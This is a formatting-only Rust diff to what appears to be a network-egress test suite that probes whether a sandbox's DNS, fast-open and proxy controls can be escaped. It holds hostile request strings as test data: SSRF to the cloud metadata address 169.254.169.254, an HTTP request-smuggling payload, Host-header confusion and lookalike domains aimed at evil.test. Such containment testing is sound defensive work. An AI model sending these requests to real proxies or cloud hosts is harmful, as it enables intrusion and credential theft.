@@ -95,7 +95,13 @@ pub(crate) fn early(targets: &Targets) -> Tried {
     bytes[2..4].copy_from_slice(&place.port().to_be_bytes());
     bytes[4..8].copy_from_slice(&place.ip().octets());
     let flags = i64::from(libc::MSG_FASTOPEN | libc::MSG_NOSIGNAL);
-    out(call(libc::SYS_sendto, &[socket.as_raw_fd().into(), address(b"x"), 1, flags, address(&bytes), 16]), "sent")
+    out(
+        call(
+            libc::SYS_sendto,
+            &[socket.as_raw_fd().into(), address(b"x"), 1, flags, address(&bytes), 16],
+        ),
+        "sent",
+    )
 }
 
 /// What a program does that knows nothing of a proxy, or wants to know nothing.
@@ -105,7 +111,10 @@ pub(crate) fn without_proxy(targets: &Targets) -> Tried {
 
 pub(crate) fn names(_: &Targets) -> Tried {
     let resolved = |name: &str| match (name, 80_u16).to_socket_addrs() {
-        Ok(mut found) => found.next().map(|found| format!("{name} is {found}")).ok_or_else(|| "no answer".to_owned()),
+        Ok(mut found) => found
+            .next()
+            .map(|found| format!("{name} is {found}"))
+            .ok_or_else(|| "no answer".to_owned()),
         Err(error) => Err(error.to_string()),
     };
     any([resolved("example.com"), resolved("secret.evil.test")])
@@ -114,7 +123,8 @@ pub(crate) fn names(_: &Targets) -> Tried {
 /// A question put to the name servers there are; whether it came is seen from outside.
 pub(crate) fn name_server(_: &Targets) -> Tried {
     let text = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
-    let servers = text.lines().filter_map(|line| line.strip_prefix("nameserver ")?.trim().parse().ok());
+    let servers =
+        text.lines().filter_map(|line| line.strip_prefix("nameserver ")?.trim().parse().ok());
     let known = ["192.0.2.53"].into_iter().filter_map(|text| text.parse().ok());
     any(servers.chain(known).map(|server: std::net::IpAddr| send(SocketAddr::new(server, 53))))
 }
@@ -130,7 +140,8 @@ fn ask(request: &str) -> Tried {
     stream.read_to_end(&mut answer).map_err(failed)?;
     let text = String::from_utf8_lossy(&answer);
     let line = text.lines().next().unwrap_or_default().to_owned();
-    let served = line.split(' ').nth(1).is_some_and(|code| code.starts_with('2')) || text.contains("HELLO");
+    let served =
+        line.split(' ').nth(1).is_some_and(|code| code.starts_with('2')) || text.contains("HELLO");
     if served { Ok(line) } else { Err(format!("the proxy: {line}")) }
 }
 
@@ -141,7 +152,9 @@ pub(crate) fn proxy_any_host(targets: &Targets) -> Tried {
         ask(&format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n")),
         ask(&format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n")),
         ask(&format!("GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n")),
-        ask("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
+        ask(
+            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
+        ),
     ])
 }
 
@@ -162,7 +175,9 @@ pub(crate) fn proxy_confused(_: &Targets) -> Tried {
     any([
         ask("CONNECT ok.test:22 HTTP/1.1\r\nHost: ok.test:22\r\n\r\n"),
         ask("GET http://ok.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
-        ask("POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n"),
+        ask(
+            "POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n",
+        ),
         ask("GET http://evil.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
         ask("GET http://ok.test.evil.test/ HTTP/1.1\r\nHost: ok.test.evil.test\r\n\r\n"),
         ask("GET http://evilok.test/ HTTP/1.1\r\nHost: evilok.test\r\n\r\n"),
